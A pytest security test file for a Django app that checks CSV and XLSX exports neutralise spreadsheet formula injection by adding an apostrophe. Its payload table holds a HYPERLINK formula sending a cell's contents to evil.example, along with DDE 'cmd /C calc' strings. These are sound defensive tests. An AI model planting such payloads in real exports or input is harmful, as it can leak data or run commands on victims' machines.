"""Formula injection in spreadsheet exports (issue 8, item 4; OWASP "CSV injection"): text a
person typed that begins with = + - @, a tab or a carriage return is made inert with a
leading apostrophe in every CSV and XLSX Casebook writes (the problem log, the dashboard's
tables, the import report), so a spreadsheet never runs it; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from analytics.models import RecurringCandidate
from analytics.tables import COUNT, DECIMAL, PERCENT, Column, Table
from complaints.exporting import FORMULA_TRIGGERS
from complaints.models import ImportJob, PreventiveAction, Problem
from tests.security.conftest import example_isolated
from tests.security.judging import cookies_kept
from tests.security.test_import_fuzzing import csv_bytes

# One payload per trigger; each runs something if a spreadsheet takes it for a formula.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# The problem log's free text, and who wrote it (the learner's name).
PROBLEM_FIELDS = ("external_ref", "customer_ref", "product", "customer_expectation", "description")
EXPORTED_AS = (
    "External reference",
    "Customer reference",
    "Product or service",
    "What the customer expected",
    "What went wrong",
)


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _xlsx_cells(body: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _inert(rows: list[list[object]]) -> list[str]:
    """Cells a spreadsheet would read as a formula."""
    return [
        repr(cell)
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS)
    ]


@pytest.mark.parametrize("trigger", list(PAYLOADS), ids=repr)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_problem_log_export_makes_every_typed_formula_inert(world, clients, trigger, fmt):
    payload = PAYLOADS[trigger]
    with example_isolated():
        for n, problem in enumerate(Problem.objects.filter(centre=world.centre)):
            values = {name: payload[:58] for name in PROBLEM_FIELDS}
            values["external_ref"] += str(n)  # unique in the centre
            Problem.objects.filter(pk=problem.pk).update(**values)
        learner = world.people["learner"]
        learner.first_name, learner.last_name = payload[:150], ""
        learner.save(update_fields=["first_name", "last_name"])
        response = clients["manager"].get(reverse("complaints:problem-export", args=[fmt]))
        assert response.status_code == 200
        body = _body(response)
    rows = _csv_cells(body) if fmt == "csv" else _xlsx_cells(body)
    assert not _inert(rows)
    # Every typed text is there, behind its apostrophe: made inert, not dropped.
    columns = [rows[0].index(label) for label in EXPORTED_AS]
    problems = [row for row in rows[1:] if row[columns[0]]]
    assert len(problems) == 3
    expected = "'" + payload[:20]
    if fmt == "xlsx":  # XML reads a carriage return as a line feed
        expected = expected.replace("\r", "\n")
    for row in problems:
        for column in columns:
            assert str(row[column]).startswith(expected), (rows[0][column], row[column])
    learner_name = ("'" + payload).replace("\r", "\n" if fmt == "xlsx" else "\r")
    assert any(learner_name in row for row in rows[1:])  # the learner's name


@pytest.mark.parametrize("trigger", list(PAYLOADS), ids=repr)
def test_the_dashboard_tables_make_typed_formulas_inert(world, clients, trigger):
    payload = PAYLOADS[trigger]
    with example_isolated():
        RecurringCandidate.objects.filter(centre=world.centre).update(
            product=payload, shared_words=[payload, "router"]
        )
        PreventiveAction.objects.filter(centre=world.centre).update(title=payload, product=payload)
        bodies = {}
        for table in ("candidates", "actions", "pareto-types", "trend"):
            response = clients["manager"].get(
                reverse("analytics:export"),
                {"table": table, "start": "2020-01-06", "end": timezone.localdate().isoformat()},
            )
            assert response.status_code == 200, table
            bodies[table] = _csv_cells(response.content)
    for table, rows in bodies.items():
        assert not _inert(rows), table
    assert any(row[0] == "'" + payload for row in bodies["candidates"][1:])
    assert any(row[0] == "'" + payload for row in bodies["actions"][1:])


def test_numbers_in_the_dashboard_tables_stay_numbers_and_text_that_looks_like_one_does_not():
    table = Table(
        slug="t",
        caption="t",
        columns=[Column("Label"), Column("Change", COUNT), Column("Rate", DECIMAL)]
        + [Column("Share", PERCENT)],
        rows=[["-5", -3, -0.25, -12.5], ["=1+1", 0, 1.5, 100.0]],
    )
    rows = list(table.csv_rows())
    assert rows[1] == ["'-5", -3, -0.25, -12.5]
    assert rows[2] == ["'=1+1", 0, 1.5, 100.0]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    assert "\r\n'-5,-3,-0.25,-12.5\r\n" in out.getvalue()  # unquoted: a spreadsheet's numbers


def test_the_import_report_makes_formulas_from_the_file_inert(world, clients):
    header = ["=Case ID", "+Date received", "-Details", "@Channel"]
    rows = [header, ["=cmd|' /C calc'!A0", "=not a date", "-x", "@SUM(1)"]]
    client = clients["learner"]
    with example_isolated(), cookies_kept(client):
        client.post(
            reverse("complaints:import-new"),
            {"file": SimpleUploadedFile("export.csv", csv_bytes(rows, "utf-8", ","))},
        )
        job = ImportJob.objects.latest("pk")
        data = {"action": "check", "date_format": "", "map_received_at": "+Date received"}
        data["map_external_ref"] = "=Case ID"
        data["map_description"] = "-Details"
        data["map_channel"] = "@Channel"
        client.post(job.get_absolute_url(), data)
        job.refresh_from_db()
        assert job.rejected_count == 1, (job.state, job.error)
        response = client.get(job.get_absolute_url(), {"download": "report"})
        report = _csv_cells(_body(response))
    assert report[0] == ["row", "column", "problem", "outcome"]
    assert not _inert(report)
    assert any(line[1] == "'+Date received" for line in report[1:])
